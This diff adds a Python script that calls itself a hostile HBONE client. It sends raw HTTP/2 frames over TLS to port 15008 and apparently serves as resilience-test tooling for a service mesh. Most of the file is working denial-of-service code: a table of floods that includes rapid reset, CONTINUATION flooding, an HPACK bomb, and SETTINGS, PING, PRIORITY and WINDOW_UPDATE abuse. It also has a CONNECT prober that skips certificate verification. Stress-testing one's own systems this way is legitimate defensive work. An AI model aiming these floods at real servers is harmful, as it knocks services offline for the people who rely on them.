@@ -1,0 +1,182 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A hostile HBONE client of raw HTTP/2 frames over Python's ssl. Runs inside a pod; prints one line of JSON.
+
+    h2raw.py connect HOST CERT KEY AUTHORITY [HEADER=VALUE ...]   one CONNECT: status, and what the application says
+    h2raw.py flood NAME HOST CERT KEY AUTHORITY SECONDS           one of FLOODS for so long
+"""
+import json
+import os
+import socket
+import ssl
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    """One HTTP/2 frame."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def text(value):
+    """A string literal of HPACK; shorter than 127 bytes, no Huffman."""
+    return bytes((len(value),)) + value
+
+
+def connect_head(authority, extra=()):
+    """The header block of a CONNECT, nothing indexed."""
+    block = b"\x02" + text(b"CONNECT") + b"\x01" + text(authority.encode())
+    for name, value in extra:
+        block += b"\x00" + text(name.encode()) + text(value.encode())
+    return block
+
+
+class Peer:
+    """A TLS connection to 15008 on which frames go out as they are."""
+
+    def __init__(self, host, cert, key):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname = False
+        context.verify_mode = ssl.CERT_NONE
+        context.set_alpn_protocols(["h2"])
+        if cert != "-":
+            context.load_cert_chain(cert, key)
+        self.socket = context.wrap_socket(socket.create_connection((host, 15008), timeout=10))
+        self.buffer = b""
+        self.send(PREFACE + frame(SETTINGS))
+
+    def send(self, data):
+        """All of it, or an exception."""
+        self.socket.sendall(data)
+
+    def read_frame(self, timeout):
+        """(kind, flags, stream, payload); None at the end."""
+        self.socket.settimeout(timeout)
+        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
+            data = self.socket.recv(65536)
+            if not data:
+                return None
+            self.buffer += data
+        size = 9 + int.from_bytes(self.buffer[:3], "big")
+        one, self.buffer = self.buffer[:size], self.buffer[size:]
+        return one[3], one[4], struct.unpack(">I", one[5:9])[0], one[9:]
+
+
+def status_of(block):
+    """:status of an answer: an indexed one, or a literal."""
+    known = {0x88: 200, 0x8C: 400, 0x8D: 404, 0x8E: 500}
+    if block[0] in known:
+        return known[block[0]]
+    return next((int(s) for s in (b"401", b"503", b"400", b"200") if s in block), huffman_status(block))
+
+
+def huffman_status(block):
+    """The digits 0-9 of Huffman code, enough for a status."""
+    at = 2 if block[0] & 0x0F != 0x0F else 3
+    bits = "".join(f"{b:08b}" for b in block[at:at + (block[at - 1] & 0x7F)])
+    codes = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5"}
+    out = ""
+    while len(out) < 3:
+        code = next((c for c in codes if bits.startswith(c)), None)
+        if not code:
+            return 0
+        out, bits = out + codes[code], bits[len(code):]
+    return int(out)
+
+
+def connect(host, cert, key, authority, extra):
+    """One CONNECT. "accepted": the peer spoke HTTP/2 with us at all."""
+    answer = {"accepted": False, "status": 0, "said": "", "error": ""}
+    try:
+        peer = Peer(host, cert, key)
+        peer.send(frame(HEADERS, END_HEADERS, 1, connect_head(authority, extra)) + frame(DATA, 0, 1, b"hello"))
+        end = time.monotonic() + 3
+        while time.monotonic() < end and not answer["said"]:
+            got = peer.read_frame(3)
+            if not got:
+                break
+            answer["accepted"] = True
+            kind, _, stream, payload = got
+            if kind == HEADERS and stream == 1:
+                answer["status"] = status_of(payload)
+                if answer["status"] != 200:
+                    break
+            elif kind == DATA and stream == 1:
+                answer["said"] += payload.decode()
+    except (OSError, ssl.SSLError) as e:
+        answer["error"] = str(e)
+    return answer
+
+
+def rapid_reset(number, head):
+    """Open and reset, without waiting."""
+    stream = 1 + 2 * number
+    return frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+def bomb(number, head):
+    """One large entry in the table, then many references to it."""
+    stream = 1 + 2 * number
+    entry = b"\x40" + text(b"x-bomb") + b"\x7f\xa1\x1e" + b"a" * 4000 if number == 0 else b""
+    return frame(HEADERS, END_HEADERS, stream, head + entry + b"\xbe" * 12000)
+
+
+# name: (frames that begin it, frame number n)
+FLOODS = {
+    "rapid reset": (None, rapid_reset),
+    "CONTINUATION": (lambda h: frame(HEADERS, 0, 1, h), lambda n, h: frame(CONTINUATION, 0, 1, b"\x00" + text(b"x%d" % n) +
+                                                                         text(b"y" * 100))),
+    "SETTINGS": (None, lambda n, h: frame(SETTINGS)),
+    "SETTINGS with windows up and down": (
+        lambda h: frame(HEADERS, END_HEADERS, 1, h),
+        lambda n, h: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF if n % 2 else 0))),
+    "PING": (None, lambda n, h: frame(PING, 0, 0, struct.pack(">Q", n))),
+    "empty DATA": (lambda h: frame(HEADERS, END_HEADERS, 1, h), lambda n, h: frame(DATA, 0, 1)),
+    "one-byte DATA": (lambda h: frame(HEADERS, END_HEADERS, 1, h), lambda n, h: frame(DATA, 0, 1, b"x")),
+    "PRIORITY": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 0, 1))),
+    "WINDOW_UPDATE of 0": (lambda h: frame(HEADERS, END_HEADERS, 1, h),
+                           lambda n, h: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0))),
+    "WINDOW_UPDATE past the end": (lambda h: frame(HEADERS, END_HEADERS, 1, h),
+                                   lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))),
+    "streams without end": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h)),
+    "made you reset": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h) +
+                       frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0))),
+    "HPACK bomb": (None, bomb),
+    "PUSH_PROMISE": (None, lambda n, h: frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2))),
+}
+
+
+def flood(name, host, cert, key, authority, seconds):
+    """Again and again, with a new connection whenever the last one was closed. Answers are not read: they pile up."""
+    begin, more = FLOODS[name]
+    head = connect_head(authority)
+    end = time.monotonic() + seconds
+    result = {"frames": 0, "connections": 0, "refused": 0}
+    while time.monotonic() < end:
+        try:
+            peer = Peer(host, cert, key)
+            result["connections"] += 1
+            if begin:
+                peer.send(begin(head))
+            peer.socket.settimeout(1)
+            number = 0
+            while time.monotonic() < end:
+                peer.send(b"".join(more(n, head) for n in range(number, number + 64)))
+                number += 64
+                result["frames"] += 64
+        except (OSError, ssl.SSLError):
+            result["refused"] += 1
+    times = os.times()
+    result["cpu"] = round(times.user + times.system, 2)
+    return result
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "connect":
+        print(json.dumps(connect(*sys.argv[2:6], [h.split("=", 1) for h in sys.argv[6:]])))
+    else:
+        print(json.dumps(flood(*sys.argv[2:7], float(sys.argv[7]))))
